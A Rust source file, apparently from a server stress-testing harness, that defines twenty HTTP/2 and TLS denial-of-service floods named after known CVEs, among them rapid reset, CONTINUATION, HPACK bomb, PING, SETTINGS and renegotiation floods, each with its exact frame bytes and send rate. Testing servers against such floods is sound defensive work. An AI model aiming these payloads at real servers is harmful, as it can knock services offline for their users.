//! The floods.

use corelane_test_frames::{hpack, setting::INITIAL_WINDOW_SIZE, *};

use crate::terms::Group;

#[derive(Debug)]
pub struct Flood {
    pub name: &'static str,
    pub what: &'static str,
    /// Frames, records or connections per second, of all attackers together. A server that reads
    /// everything uses no more than half of its core.
    pub rate: u32,
    pub groups: &'static [Group],
    pub attack: Attack,
}

#[derive(Debug)]
pub enum Attack {
    /// HTTP/2 frames.
    Frames(Frames),
    /// KeyUpdate messages that request one in return.
    KeyUpdates,
    /// TLS records of this type.
    Records { kind: u8, content: Content },
    /// Connections that carry only this.
    Connections(Opening),
}

#[derive(Debug)]
pub struct Frames {
    pub settings: &'static [(u16, u32)],
    /// Frames that open each connection, before the flood.
    pub begin: Begin,
    /// Frames in one piece, and the bytes of the `n`th piece.
    pub in_piece: u32,
    pub piece: Piece,
}

type Begin = fn() -> Vec<u8>;
type Piece = fn(n: u32) -> Vec<u8>;

#[derive(Debug)]
pub enum Content {
    Bytes(&'static [u8]),
    ClientHello,
}

#[derive(Clone, Copy, Debug)]
pub enum Opening {
    /// Only a ClientHello; the connection stays open.
    ClientHello,
    /// A whole handshake, then a close.
    Handshake,
    /// Bytes that are not TLS.
    Garbage,
}

impl Attack {
    /// The unit that the flood counts.
    pub fn counted(&self) -> &'static str {
        match self {
            Self::Frames(_) => "frame",
            Self::KeyUpdates | Self::Records { .. } => "record",
            Self::Connections(_) => "connection",
        }
    }

    /// Units in one piece.
    pub fn in_piece(&self) -> u32 {
        match self {
            Self::Frames(frames) => frames.in_piece,
            _ => 1,
        }
    }
}

const ALERT: u8 = 21;
const HANDSHAKE: u8 = 22;
const APPLICATION_DATA: u8 = 23;

/// Overflows a window of any size.
const TOO_MUCH: u32 = (1 << 31) - 1;

/// Streams that some floods keep open; ids below those of [`stream`] are theirs.
const OPEN: u32 = 100;

/// The stream of the `n`th piece.
const fn stream(n: u32) -> u32 {
    2 * (OPEN + n) + 1
}

fn ask(stream: u32, path: &str) -> Vec<u8> {
    headers(stream, WHOLE, &hpack::get(path))
}

/// A request without its body.
fn upload(stream: u32) -> Vec<u8> {
    headers(stream, END_HEADERS, &hpack::post("/upload"))
}

fn nothing() -> Vec<u8> {
    Vec::new()
}

pub static FLOODS: [Flood; 20] = [
    http2(
        "rapid-reset",
        "requests that are reset at once, CVE-2023-44487",
        40_000,
        // A hundred at a time, as in the real attacks.
        (nothing, 200, |n| {
            let pair = |n| [ask(stream(n), "/tiny"), reset(stream(n), 8)].concat();
            (100 * n..100 * (n + 1)).flat_map(pair).collect()
        }),
    ),
    http2(
        "made-you-reset",
        "requests that make the server reset them, CVE-2025-8671",
        10_000,
        (nothing, 2, |n| {
            [upload(stream(n)), window_update(stream(n), TOO_MUCH)].concat()
        }),
    ),
    http2(
        "continuation",
        "CONTINUATION of 1 KiB, a header block without end, CVE-2024-27316",
        10_000,
        (
            || headers(1, END_STREAM, &hpack::get("/tiny")),
            1,
            |_| continuation(1, 0, &hpack::block(&[("x-header", &[b'y'; 1000])])),
        ),
    ),
    http2(
        "header-lists",
        "requests with 40 KB of header fields",
        1_500,
        (nothing, 3, |n| {
            let fields = hpack::block(&[("x-header", &[b'y'; 1000])]).repeat(13);
            [
                headers(
                    stream(n),
                    END_STREAM,
                    &[hpack::get("/tiny"), fields.clone()].concat(),
                ),
                continuation(stream(n), 0, &fields),
                continuation(stream(n), END_HEADERS, &fields),
            ]
            .concat()
        }),
    ),
    http2(
        "hpack-bomb",
        "requests with 16,000 references to a field of 4,000 bytes, CVE-2016-6581",
        500,
        (
            || {
                let entry = [&[0x40, 1, b'x'][..], &hpack::string(&[b'y'; 4000])].concat();
                headers(1, WHOLE, &[hpack::get("/tiny"), entry].concat())
            },
            1,
            |n| {
                let bomb = [hpack::get("/tiny"), vec![0x80 | 62; 16_000]].concat();
                headers(stream(n), WHOLE, &bomb)
            },
        ),
    ),
    http2(
        "ping",
        "PING, CVE-2019-9512",
        200_000,
        (nothing, 1, |_| ping(&[0; 8])),
    ),
    Flood {
        attack: Attack::Frames(Frames {
            settings: &[(INITIAL_WINDOW_SIZE, 0)],
            begin: || (0..OPEN).flat_map(|i| ask(2 * i + 1, "/1m")).collect(),
            in_piece: 1,
            piece: |n| settings(&[(INITIAL_WINDOW_SIZE, n % 2)]),
        }),
        ..http2(
            "settings",
            "SETTINGS that change the windows of 100 streams, CVE-2019-9515",
            200_000,
            (nothing, 1, |_| Vec::new()),
        )
    },
    http2(
        "priority",
        "PRIORITY on 100 streams, each time on another one, CVE-2019-9513",
        200_000,
        (nothing, 1, |n| {
            let (i, turn) = (n % OPEN, n / OPEN % (OPEN - 1));
            let on = (i + 1 + turn) % OPEN;
            priority(2 * i + 1, 2 * on + 1)
        }),
    ),
    http2(
        "window-update",
        "WINDOW_UPDATE on the connection, by one byte",
        200_000,
        (nothing, 1, |_| window_update(0, 1)),
    ),
    Flood {
        attack: Attack::Frames(Frames {
            settings: &[(INITIAL_WINDOW_SIZE, 0)],
            begin: || ask(1, "/1m"),
            in_piece: 1,
            piece: |_| window_update(1, 1),
        }),
        ..http2(
            "data-dribble",
            "WINDOW_UPDATE on a response, by one byte, CVE-2019-9511",
            20_000,
            (nothing, 1, |_| Vec::new()),
        )
    },
    http2(
        "empty-data",
        "DATA without content, CVE-2019-9518",
        200_000,
        (|| upload(1), 1, |_| data(1, 0, b"")),
    ),
    http2(
        "single-bytes",
        "a request body with one byte in each DATA frame",
        100_000,
        (|| upload(1), 1, |_| data(1, 0, b"x")),
    ),
    http2(
        "unknown",
        "frames of an undefined type",
        200_000,
        (nothing, 1, |_| frame(kind::UNKNOWN, 0, 0, b"")),
    ),
    tls(
        "half-handshake",
        "a ClientHello on each connection, nothing else",
        200,
        &Group::ALL,
        Attack::Connections(Opening::ClientHello),
    ),
    tls(
        "handshake",
        "complete handshakes, nothing else",
        200,
        &Group::ALL,
        Attack::Connections(Opening::Handshake),
    ),
    tls(
        "garbage",
        "1 KiB on each connection that is not TLS",
        500,
        &Group::ALL,
        Attack::Connections(Opening::Garbage),
    ),
    tls(
        "empty-records",
        "records without content, CVE-2020-12457",
        50_000,
        &Group::ALL,
        Attack::Records {
            kind: APPLICATION_DATA,
            content: Content::Bytes(b""),
        },
    ),
    tls(
        "warnings",
        "alerts of level warning, CVE-2016-8610",
        50_000,
        &Group::ALL,
        Attack::Records {
            kind: ALERT,
            content: Content::Bytes(&[1, 90]),
        },
    ),
    tls(
        "key-update",
        "KeyUpdates that request one in return",
        20_000,
        &[Group::Tls13],
        Attack::KeyUpdates,
    ),
    tls(
        "renegotiation",
        "a ClientHello again and again, CVE-2011-1473",
        20_000,
        &[Group::Tls12],
        Attack::Records {
            kind: HANDSHAKE,
            content: Content::ClientHello,
        },
    ),
];

const fn http2(
    name: &'static str,
    what: &'static str,
    rate: u32,
    (begin, in_piece, piece): (Begin, u32, Piece),
) -> Flood {
    let attack = Attack::Frames(Frames {
        settings: &[],
        begin,
        in_piece,
        piece,
    });
    tls(name, what, rate, &Group::ALL, attack)
}

const fn tls(
    name: &'static str,
    what: &'static str,
    rate: u32,
    groups: &'static [Group],
    attack: Attack,
) -> Flood {
    Flood {
        name,
        what,
        rate,
        groups,
        attack,
    }
}

pub fn named(name: &str) -> Result<&'static Flood, String> {
    let names = || FLOODS.iter().map(|flood| flood.name).collect::<Vec<_>>();
    FLOODS
        .iter()
        .find(|flood| flood.name == name)
        .ok_or_else(|| format!("the floods are {}", names().join(", ")))
}
